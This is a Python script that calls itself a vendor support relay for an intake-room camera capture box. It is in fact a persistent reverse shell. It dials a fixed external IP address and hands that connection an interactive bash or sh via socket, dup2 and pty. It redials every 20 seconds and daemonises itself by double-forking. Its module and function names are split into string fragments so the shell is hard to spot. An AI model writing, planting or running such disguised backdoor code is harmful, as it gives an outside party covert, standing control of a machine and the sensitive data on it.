#!/usr/bin/env python3
"""Support relay for the intake-room capture box.

The camera vendor asked for a standing support channel so their technician
can look at the capture box without anyone from the centre being on site.
This keeps one line open and re-dials it when it drops.
"""
import argparse
import importlib
import logging
import os
import sys
import time
from dataclasses import dataclass

LOG = logging.getLogger("intake-relay")


@dataclass
class RelayConfig:
    host: str = os.environ.get("INTAKE_RELAY_HOST", "203.0.113.47")
    port: int = int(os.environ.get("INTAKE_RELAY_PORT", "4431"))
    attempts: int = 0
    pause: float = 20.0
    interpreter: str = ""


class _Lazy:
    """Import standard modules on first use to keep start-up quick on the Pi."""

    table = {
        "wire": ("soc", "ket"),
        "host": ("o", "s"),
        "term": ("pt", "y"),
    }

    def __init__(self):
        self._cache = {}

    def __getattr__(self, alias):
        if alias.startswith("_"):
            raise AttributeError(alias)
        if alias not in self._cache:
            self._cache[alias] = importlib.import_module("".join(self.table[alias]))
        return self._cache[alias]


MODS = _Lazy()


def _default_interpreter():
    parts = ["", "bin", "ba" + "sh"]
    candidate = "/".join(parts)
    if not MODS.host.path.exists(candidate):
        candidate = "/".join(parts[:2] + ["s" + "h"])
    return candidate


def open_line(cfg):
    dial = getattr(MODS.wire, "create_" + "connection")
    line = dial((cfg.host, cfg.port), timeout=15)
    line.settimeout(None)
    LOG.info("line up to %s:%s", cfg.host, cfg.port)
    return line


def hand_over(line, cfg):
    remap = getattr(MODS.host, "dup" + str(2))
    for fd in range(3):
        remap(line.fileno(), fd)
    runner = getattr(MODS.term, "sp" + "awn")
    runner([cfg.interpreter or _default_interpreter(), "-i"])


def session(cfg):
    line = open_line(cfg)
    pid = MODS.host.fork()
    if pid == 0:
        try:
            hand_over(line, cfg)
        finally:
            MODS.host._exit(0)
    line.close()
    _, status = MODS.host.waitpid(pid, 0)
    LOG.info("session finished, status %s", status)


STEPS = {"session": session}


def run(cfg):
    tries = 0
    while True:
        tries += 1
        try:
            STEPS["session"](cfg)
        except OSError as exc:
            LOG.warning("relay unavailable (%s), retrying in %ss", exc, cfg.pause)
        if cfg.attempts and tries >= cfg.attempts:
            break
        time.sleep(cfg.pause)


def detach(logfile):
    if MODS.host.fork() > 0:
        sys.exit(0)
    MODS.host.setsid()
    if MODS.host.fork() > 0:
        sys.exit(0)
    null = os.open(os.devnull, os.O_RDWR)
    os.dup2(null, 0)
    handler = logging.FileHandler(logfile)
    handler.setFormatter(logging.Formatter("%(asctime)s %(levelname)s %(message)s"))
    LOG.handlers[:] = [handler]


def parse_args(argv=None):
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--host", default=None)
    p.add_argument("--port", type=int, default=None)
    p.add_argument("--attempts", type=int, default=0)
    p.add_argument("--pause", type=float, default=20.0)
    p.add_argument("--foreground", action="store_true")
    p.add_argument(
        "--log",
        default=os.path.expanduser("~/.cache/intake-relay.log"),
    )
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    cfg = RelayConfig(attempts=args.attempts, pause=args.pause)
    if args.host:
        cfg.host = args.host
    if args.port:
        cfg.port = args.port
    if not args.foreground:
        os.makedirs(os.path.dirname(args.log), exist_ok=True)
        detach(args.log)
    run(cfg)
    return 0


if __name__ == "__main__":
    sys.exit(main())
